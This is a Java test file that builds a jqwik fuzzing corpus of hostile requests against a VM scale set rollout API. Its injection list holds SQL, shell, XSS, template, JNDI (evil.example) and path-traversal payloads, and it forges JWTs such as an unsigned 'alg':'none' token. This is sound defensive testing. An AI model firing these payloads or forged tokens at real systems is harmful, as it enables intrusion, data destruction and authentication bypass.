package dev.vmssrollout.api.security;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import org.springframework.http.HttpMethod;
import org.springframework.security.core.authority.SimpleGrantedAuthority;
import org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.springframework.web.util.UriUtils;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.request;

/**
 * A generated corpus of malformed, oversized, wrong-typed and injection-laden requests to every endpoint of the
 * API, as jqwik arbitraries. Requests carry valid credentials (most of the time) so that they get past
 * authentication and reach the parsing, validation and store code they attack.
 */
final class HostileRequests {

    /** One request of the corpus; {@code endpoint} names what it attacks, for the report. */
    record HostileRequest(String endpoint, HttpMethod method, String path, Map<String, String> query,
                          Map<String, String> headers, byte[] body) {

        MockHttpServletRequestBuilder build() {
            StringBuilder uri = new StringBuilder(path);
            String separator = "?";
            for (Map.Entry<String, String> parameter : query.entrySet()) {
                uri.append(separator).append(UriUtils.encodeQueryParam(parameter.getKey(), StandardCharsets.UTF_8))
                        .append('=').append(UriUtils.encodeQueryParam(parameter.getValue(), StandardCharsets.UTF_8));
                separator = "&";
            }
            MockHttpServletRequestBuilder builder = request(method, URI.create(uri.toString()));
            headers.forEach((name, value) -> {
                if (name.equals(PRINCIPAL)) {
                    builder.with(SecurityMockMvcRequestPostProcessors.user(value).authorities(
                            Roles.ALL.stream().map(SimpleGrantedAuthority::new).toList()));
                } else {
                    builder.header(name, value);
                }
            });
            if (body != null) {
                builder.content(body);
            }
            return builder;
        }

        @Override
        public String toString() {
            String text = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            return method + " " + path + " " + query + " " + headers + " body(" + (body == null ? 0 : body.length)
                    + " bytes): " + (text.length() > 300 ? text.substring(0, 300) + "..." : text);
        }
    }

    /** SQL, shell, script, template and path injections, and text that breaks naive parsers. */
    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE rollouts; --", "' OR '1'='1", "\" OR 1=1 --", "1; SELECT pg_sleep(10)", "x' UNION SELECT * FROM events --",
            "$(reboot)", "`id`", "| cat /etc/passwd", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "{{7*7}}", "${7*7}", "#{7*7}", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "..%2f..%2f..%2fetc",
            "%00", "\u0000", "a\u0000b", "\r\nSet-Cookie: evil=1", "\u202Eevil", "\uD83D\uDE08", "\uFEFF", "%", "%%",
            "%zz", "\\", "\\\\server\\share", "/", "//", "?", "#", ";", "{", "}", "[]", "{}", "null", "undefined",
            "NaN", "-0", "1e309", "9223372036854775808", "-2147483649", "0x7fffffff", "true", " ", "\t", "");

    /** Not a header: the request is sent as this authenticated user (all roles), without a password check. */
    static final String PRINCIPAL = "(principal)";
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final int MAX_BODY = 64 * 1024;

    private final String subscription;
    private final String resourceGroup;
    private final String absentScaleSet;
    private final List<String> rolloutIds;
    private final List<String> otherEndpoints;
    private final Arbitrary<Map<String, String>> credentials;

    /**
     * @param rolloutIds     ids of rollouts that exist and have ended: actions on them must be refused, not applied
     * @param otherEndpoints method and path pattern of every endpoint the rollout generators do not know
     *                       ({@code GET /api/v1/me}), found in the running application
     * @param credentials    who each request claims to be, as the API's security mode expects it (mostly valid)
     */
    HostileRequests(String subscription, String resourceGroup, String absentScaleSet, List<String> rolloutIds,
                    List<String> otherEndpoints, Arbitrary<Map<String, String>> credentials) {
        this.subscription = subscription;
        this.resourceGroup = resourceGroup;
        this.absentScaleSet = absentScaleSet;
        this.rolloutIds = List.copyOf(rolloutIds);
        this.otherEndpoints = List.copyOf(otherEndpoints);
        this.credentials = credentials;
    }

    Arbitrary<HostileRequest> all() {
        List<Tuple.Tuple2<Integer, Arbitrary<? extends HostileRequest>>> kinds = new ArrayList<>(List.of(
                Tuple.of(5, submit("submit", "/api/v1/rollouts")),
                Tuple.of(3, submit("preview", "/api/v1/rollouts/preview")),
                Tuple.of(3, list()),
                Tuple.of(3, getById()),
                Tuple.of(6, action()),
                Tuple.of(1, stream()),
                Tuple.of(2, scaleSet()),
                Tuple.of(1, signIn())));
        if (!otherEndpoints.isEmpty()) {
            kinds.add(Tuple.of(2, other()));
        }
        return Arbitraries.frequencyOf(kinds.toArray(Tuple.Tuple2[]::new));
    }

    // ---- endpoints

    private Arbitrary<HostileRequest> submit(String name, String path) {
        return Combinators.combine(rolloutBody(), jsonHeaders(), idempotencyKey(), credentials)
                .as((body, headers, key, user) -> {
                    Map<String, String> all = new LinkedHashMap<>(headers);
                    all.putAll(user);
                    if (key != null) {
                        all.put("Idempotency-Key", key);
                    }
                    return new HostileRequest(name, HttpMethod.POST, path, Map.of(), all, body);
                });
    }

    private Arbitrary<HostileRequest> list() {
        Arbitrary<Map<String, String>> parameters = Arbitraries.maps(
                Arbitraries.of("state", "subscriptionId", "resourceGroup", "scaleSet", "limit", "offset", "sort", "state[]"),
                Arbitraries.oneOf(hostileText(), Arbitraries.of("RUNNING", "running", "SUCCEEDED,FAILED", "-1", "0", "201",
                        "2147483648", "1.5", "50"))).ofMaxSize(5);
        return Combinators.combine(parameters, credentials, plainHeaders())
                .as((query, user, headers) -> new HostileRequest("list", HttpMethod.GET, "/api/v1/rollouts", query,
                        merge(headers, user), null));
    }

    private Arbitrary<HostileRequest> getById() {
        return Combinators.combine(rolloutId(), credentials, plainHeaders())
                .as((id, user, headers) -> new HostileRequest("get", HttpMethod.GET, "/api/v1/rollouts/" + id, Map.of(),
                        merge(headers, user), null));
    }

    private Arbitrary<HostileRequest> action() {
        Arbitrary<String> verb = Arbitraries.of("approve", "pause", "resume", "cancel", "rollback", "retry");
        return Combinators.combine(verb, rolloutId(), actionBody(), jsonHeaders(), credentials)
                .as((action, id, body, headers, user) -> new HostileRequest(action, HttpMethod.POST,
                        "/api/v1/rollouts/" + id + "/" + action, Map.of(), merge(headers, user), body));
    }

    private Arbitrary<HostileRequest> stream() {
        // Only ids that do not exist (or are not ids): a stream of a real rollout stays open by design.
        return Combinators.combine(weirdId(), credentials)
                .as((id, user) -> new HostileRequest("stream", HttpMethod.GET, "/api/v1/rollouts/" + id + "/events/stream",
                        Map.of(), merge(Map.of("Accept", "text/event-stream"), user), null));
    }

    private Arbitrary<HostileRequest> scaleSet() {
        Arbitrary<String> segment = Arbitraries.oneOf(pathSegment(hostileText()), Arbitraries.of(subscription, resourceGroup,
                absentScaleSet));
        return Combinators.combine(segment, segment, segment, credentials)
                .as((s, rg, name, user) -> new HostileRequest("scaleset", HttpMethod.GET,
                        "/api/v1/scalesets/" + s + "/" + rg + "/" + name, Map.of(), user, null));
    }

    private Arbitrary<HostileRequest> signIn() {
        Arbitrary<String> form = Combinators.combine(hostileText(), hostileText())
                .as((u, p) -> "username=" + UriUtils.encodeQueryParam(u, StandardCharsets.UTF_8)
                        + "&password=" + UriUtils.encodeQueryParam(p, StandardCharsets.UTF_8));
        Arbitrary<String> contentType = Arbitraries.of("application/x-www-form-urlencoded", "application/json",
                "multipart/form-data; boundary=x", "text/plain");
        return Combinators.combine(form, contentType)
                .as((body, type) -> new HostileRequest("session", HttpMethod.POST, "/api/v1/session", Map.of(),
                        Map.of("Content-Type", type, "X-Requested-With", "vmss-rollout"), body.getBytes(StandardCharsets.UTF_8)));
    }

    /** Any other mapped endpoint: its path variables replaced by hostile values, hostile headers and parameters. */
    private Arbitrary<HostileRequest> other() {
        return Arbitraries.of(otherEndpoints).flatMap(this::other);
    }

    /** One request to each endpoint the rollout generators do not know, so that a short corpus still reaches all. */
    List<Arbitrary<HostileRequest>> eachOtherEndpoint() {
        return otherEndpoints.stream().map(this::other).toList();
    }

    private Arbitrary<HostileRequest> other(String endpoint) {
        String[] methodAndPath = endpoint.split(" ", 2);
        return Combinators.combine(pathSegment(hostileText()), plainHeaders(), credentials,
                        Arbitraries.maps(hostileText().filter(k -> !k.isEmpty()), hostileText()).ofMaxSize(2))
                .as((value, headers, user, query) -> {
                    String path = methodAndPath[1].replaceAll("\\{[^}]+}",
                            java.util.regex.Matcher.quoteReplacement(value.isEmpty() ? "x" : value));
                    return new HostileRequest(methodAndPath[1], HttpMethod.valueOf(methodAndPath[0]), path, query,
                            merge(headers, user), null);
                });
    }

    // ---- bodies

    private Arbitrary<byte[]> rolloutBody() {
        return Arbitraries.frequencyOf(
                        Tuple.of(3, malformedJson(validBody())),
                        Tuple.of(4, validBodyWith(anyJsonValue())),
                        Tuple.of(3, validBodyWith(hostileText().map(t -> (Object) t))),
                        Tuple.of(1, validBodyWith(Arbitraries.just(Map.of("surprise", 1)))),
                        Tuple.of(1, unknownField()),
                        Tuple.of(1, oversized()))
                .map(text -> text.getBytes(StandardCharsets.UTF_8))
                .injectNull(0.03);
    }

    private Arbitrary<byte[]> actionBody() {
        Arbitrary<String> approve = Combinators.combine(anyJsonValue(), anyJsonValue())
                .as((wave, comment) -> json(fields("wave", wave, "comment", comment)));
        Arbitrary<String> operator = anyJsonValue().map(reason -> json(fields("reason", reason)));
        Arbitrary<String> longText = Arbitraries.integers().between(1_001, 60_000)
                .map(n -> json(Map.of("reason", "r".repeat(n), "comment", "c".repeat(n))));
        return Arbitraries.frequencyOf(
                        Tuple.of(3, approve),
                        Tuple.of(3, operator),
                        Tuple.of(2, malformedJson(Arbitraries.just("{\"reason\": \"why\", \"wave\": 0, \"comment\": \"ok\"}"))),
                        Tuple.of(1, longText),
                        Tuple.of(1, oversized()),
                        Tuple.of(1, Arbitraries.of("{}", "{\"reason\": null}", "{\"unknown\": true}")))
                .map(text -> text.getBytes(StandardCharsets.UTF_8))
                .injectNull(0.1);
    }

    private Arbitrary<Map<String, Object>> validBody() {
        return Arbitraries.create(() -> {
            Map<String, Object> body = new LinkedHashMap<>();
            body.put("target", new LinkedHashMap<>(Map.of("subscriptionId", subscription, "resourceGroup", resourceGroup,
                    "scaleSet", absentScaleSet)));
            body.put("image", new LinkedHashMap<>(Map.of("version", "24.04.202410010")));
            body.put("strategy", new LinkedHashMap<>(Map.of("mode", "BATCH", "batchSize", 2, "pauseBetweenWaves", "PT0S")));
            body.put("approval", new LinkedHashMap<>(Map.of("mode", "FIRST_WAVE")));
            body.put("health", new LinkedHashMap<>(Map.of("timeout", "PT5M", "minReady", "PT0S", "maxUnhealthyPercent", 0)));
            body.put("onFailure", "PAUSE");
            body.put("allowPolicySwitch", false);
            return body;
        });
    }

    /** A valid body with one field (nested ones included) replaced by {@code values}. */
    private Arbitrary<String> validBodyWith(Arbitrary<Object> values) {
        List<String> fields = List.of("target", "target.subscriptionId", "target.resourceGroup", "target.scaleSet",
                "image", "image.version", "image.sku", "image.id", "image.osDiskImageUri", "strategy", "strategy.mode",
                "strategy.batchSize", "strategy.batchPercent", "strategy.instanceIds", "strategy.pauseBetweenWaves",
                "strategy.prioritizeUnhealthy", "approval", "approval.mode", "health", "health.timeout",
                "health.minReady", "health.maxUnhealthyPercent", "onFailure", "allowPolicySwitch");
        return Combinators.combine(validBody(), Arbitraries.of(fields), values).as((body, field, value) -> {
            String[] path = field.split("\\.");
            @SuppressWarnings("unchecked")
            Map<String, Object> parent = path.length == 1 ? body : (Map<String, Object>) body.get(path[0]);
            parent.put(path[path.length - 1], value);
            return json(body);
        });
    }

    private Arbitrary<String> unknownField() {
        return Combinators.combine(validBody(), hostileText().filter(k -> !k.isEmpty()), anyJsonValue())
                .as((body, key, value) -> {
                    body.put(key, value);
                    return json(body);
                });
    }

    private static Arbitrary<String> oversized() {
        return Arbitraries.integers().between(MAX_BODY + 1, MAX_BODY * 3)
                .map(n -> "{\"padding\": \"" + "x".repeat(n) + "\"}");
    }

    /** Truncated, spliced, mistyped at the top level, nested too deep, or not JSON at all. */
    private static Arbitrary<String> malformedJson(Arbitrary<?> valid) {
        Arbitrary<String> text = valid.map(v -> v instanceof String s ? s : json(v));
        Arbitrary<String> truncated = Combinators.combine(text, Arbitraries.doubles().between(0, 1))
                .as((t, cut) -> t.substring(0, (int) (t.length() * cut)));
        Arbitrary<String> spliced = Combinators.combine(text, Arbitraries.integers().between(0, 10_000),
                        Arbitraries.of("\"", "{", "}", "[", "]", ",", ":", "\\", "\u0000", "'", "//", "/*", "NaN", "\n"))
                .as((t, at, insert) -> {
                    int position = t.isEmpty() ? 0 : at % t.length();
                    return t.substring(0, position) + insert + t.substring(position);
                });
        Arbitrary<String> deep = Arbitraries.integers().between(500, 5_000)
                .map(depth -> "[".repeat(depth) + "]".repeat(depth));
        Arbitrary<String> deepObject = Arbitraries.integers().between(500, 3_000)
                .map(depth -> "{\"target\":".repeat(depth) + "{}" + "}".repeat(depth));
        Arbitrary<String> topLevel = Arbitraries.of("", "null", "true", "0", "-1", "\"text\"", "[]", "[{}]", "{}",
                "{\"target\": {}}", "{\"target\": {\"target\": {}}}", "{{}}", "{\"a\":1,\"a\":2}", "1e999999",
                "\uFEFF{}", "{\"target\": \"\\ud800\"}");
        Arbitrary<String> garbage = Arbitraries.strings().all().ofMaxLength(200);
        return Arbitraries.oneOf(truncated, spliced, deep, deepObject, topLevel, garbage);
    }

    /** A JSON value of any type: strings (hostile), numbers of every size, booleans, null, arrays, objects. */
    private static Arbitrary<Object> anyJsonValue() {
        return Arbitraries.oneOf(
                hostileText().map(t -> (Object) t),
                Arbitraries.integers().map(i -> (Object) i),
                Arbitraries.longs().map(l -> (Object) l),
                Arbitraries.of(1e40, -1e40, 0.5, -0.0, Double.MIN_VALUE).map(d -> (Object) d),
                Arbitraries.of(new java.math.BigInteger("123456789012345678901234567890")).map(b -> (Object) b),
                Arbitraries.of(true, false).map(b -> (Object) b),
                Arbitraries.just((Object) null),
                hostileText().list().ofMaxSize(5).map(l -> (Object) l),
                Arbitraries.maps(hostileText(), hostileText()).ofMaxSize(3).map(m -> (Object) m));
    }

    static Arbitrary<String> hostileText() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.of(INJECTIONS)),
                Tuple.of(3, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(2, Arbitraries.strings().withCharRange('a', 'z').numeric().withChars("-_.()").ofMinLength(1)
                        .ofMaxLength(90)),
                Tuple.of(1, Arbitraries.integers().between(200, 5_000).map("A"::repeat)));
    }

    // ---- ids, headers, users

    private Arbitrary<String> rolloutId() {
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of(rolloutIds)),
                Tuple.of(2, Arbitraries.create(() -> UUID.randomUUID().toString())),
                Tuple.of(4, weirdId()));
    }

    private static Arbitrary<String> weirdId() {
        return pathSegment(Arbitraries.oneOf(hostileText(), Arbitraries.of("..", ".", "%2e%2e", "%2F", "..;", "~",
                "00000000-0000-0000-0000-000000000000", "rollout-1", "1 OR 1=1"))).filter(id -> !id.isEmpty());
    }

    /** Encoded so that the request can be sent at all; decoded, the server sees the hostile text. */
    private static Arbitrary<String> pathSegment(Arbitrary<String> raw) {
        return raw.map(s -> UriUtils.encodePathSegment(s, StandardCharsets.UTF_8));
    }

    private static Arbitrary<Map<String, String>> jsonHeaders() {
        Arbitrary<String> contentType = Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.just("application/json")),
                Tuple.of(3, Arbitraries.of("application/json;charset=UTF-8", "text/plain", "application/xml",
                        "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=NOPE",
                        "garbage", "*/*", "application/*", "APPLICATION/JSON", "application/problem+json", "")));
        return Combinators.combine(contentType, plainHeaders()).as((type, headers) -> {
            Map<String, String> all = new LinkedHashMap<>(headers);
            if (!type.isEmpty()) {
                all.put("Content-Type", type);
            }
            return all;
        });
    }

    private static Arbitrary<Map<String, String>> plainHeaders() {
        Arbitrary<String> accept = Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.just("application/json")),
                Tuple.of(3, Arbitraries.of("application/xml", "text/html", "*/*", "garbage/", "application/problem+json",
                        "text/event-stream", "image/png")));
        Arbitrary<Map<String, String>> extra = Arbitraries.maps(
                // No Host: MockHttpServletRequest cannot parse a malformed one (Tomcat answers 400 before the app).
                Arbitraries.of("X-Forwarded-For", "X-Forwarded-Host", "Origin", "Referer", "Cookie", "Range",
                        "If-None-Match", "X-HTTP-Method-Override", "Forwarded", "User-Agent"),
                Arbitraries.oneOf(Arbitraries.of(INJECTIONS), Arbitraries.strings().ascii().ofMaxLength(100))
                        .map(v -> v.replaceAll("[\\r\\n\\x00]", " "))).ofMaxSize(2);
        return Combinators.combine(accept, extra).as((a, e) -> {
            Map<String, String> headers = new LinkedHashMap<>(e);
            headers.put("Accept", a);
            if (headers.containsKey("Origin") || headers.containsKey("Cookie")) {
                // A browser's mark: half of these carry the dashboard's header and reach the controllers.
                if (a.length() % 2 == 0) {
                    headers.put("X-Requested-With", "vmss-rollout");
                }
            }
            return headers;
        });
    }

    private static Arbitrary<String> idempotencyKey() {
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.just(null)),
                Tuple.of(2, hostileText().map(t -> t.replaceAll("[\\r\\n]", " "))));
    }

    /**
     * Mostly an authenticated principal set up by Spring Security's test support (a real HTTP Basic check costs a
     * bcrypt hash, about 70 ms here: the corpus would take minutes); one in ten real Basic credentials, one in ten
     * a malformed or wrong Authorization header.
     */
    static Arbitrary<Map<String, String>> basicCredentials() {
        Arbitrary<Map<String, String>> principal = Arbitraries.of("alice", "bob").map(u -> Map.of(PRINCIPAL, u));
        Arbitrary<String> valid = Arbitraries.of("alice", "bob").map(u -> basic(u, u));
        Arbitrary<String> broken = Arbitraries.oneOf(
                Arbitraries.of("Basic", "Basic ", "Basic !!!", "Basic " + "QQ".repeat(5_000), "Bearer x.y.z", "Digest x",
                        basic("alice", "wrong"), basic("", ""), basic("alice\u0000", "alice")),
                hostileText().map(t -> basic(t, t)));
        return Arbitraries.frequencyOf(Tuple.of(8, principal),
                Tuple.of(1, valid.map(h -> Map.of("Authorization", h))),
                Tuple.of(1, broken.map(h -> Map.of("Authorization", h))));
    }

    /**
     * For JWT mode: mostly tokens the trusted issuer signed for alice or bob with every role; one in ten a Basic
     * credential the mode does not take; one in ten a broken or untrusted token.
     */
    static Arbitrary<Map<String, String>> bearerCredentials(TestIssuer issuer, TestIssuer stranger) {
        Arbitrary<String> valid = Arbitraries.of("alice", "bob").map(u -> "Bearer " + issuer.token(u, Roles.ALL));
        Date past = Date.from(Instant.now().minusSeconds(60));
        String unsigned = Base64.getUrlEncoder().withoutPadding()
                .encodeToString("{\"alg\":\"none\"}".getBytes(StandardCharsets.UTF_8)) + "."
                + issuer.token("mallory", Roles.ALL).split("\\.")[1] + ".";
        Arbitrary<String> broken = Arbitraries.oneOf(
                Arbitraries.of("Bearer", "Bearer ", "Bearer x.y.z", "Bearer " + "QQ".repeat(5_000), "bearer",
                        "Bearer " + stranger.token("mallory", Roles.ALL),
                        "Bearer " + issuer.sign(issuer.claims("mallory", Roles.ALL).expirationTime(past).build()),
                        "Bearer " + issuer.sign(issuer.claims("mallory", Roles.ALL).audience("api://another").build()),
                        "Bearer " + unsigned),
                hostileText().map(t -> "Bearer " + t.replaceAll("[\\r\\n]", " ")));
        return Arbitraries.frequencyOf(Tuple.of(8, valid.map(h -> Map.of("Authorization", h))),
                Tuple.of(1, Arbitraries.of("alice", "bob").map(u -> Map.of("Authorization", basic(u, u)))),
                Tuple.of(1, broken.map(h -> Map.of("Authorization", h))));
    }

    private static String basic(String user, String password) {
        return "Basic " + Base64.getEncoder().encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8));
    }

    private static Map<String, String> merge(Map<String, String> a, Map<String, String> b) {
        Map<String, String> merged = new LinkedHashMap<>(a);
        merged.putAll(b);
        return merged;
    }

    /** A JSON object's fields, nulls allowed (Map.of refuses them). */
    private static Map<String, Object> fields(Object... namesAndValues) {
        Map<String, Object> fields = new LinkedHashMap<>();
        for (int i = 0; i < namesAndValues.length; i += 2) {
            fields.put((String) namesAndValues[i], namesAndValues[i + 1]);
        }
        return fields;
    }

    private static String json(Object value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
